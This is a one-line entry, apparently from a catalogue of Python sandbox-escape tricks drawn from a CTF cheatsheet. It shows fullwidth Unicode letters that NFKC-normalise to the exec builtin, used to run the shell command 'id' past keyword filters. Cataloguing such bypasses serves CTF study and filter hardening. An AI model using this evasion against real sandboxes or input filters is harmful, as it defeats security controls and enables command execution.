# Source: https://peps.python.org/pep-0672/ (NFKC normalisation of identifiers); github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md
# Family: unicode-nfkc
# What: fullwidth ｅｘｅｃ normalises to exec
ｅｘｅｃ("import os; os.system('id')")
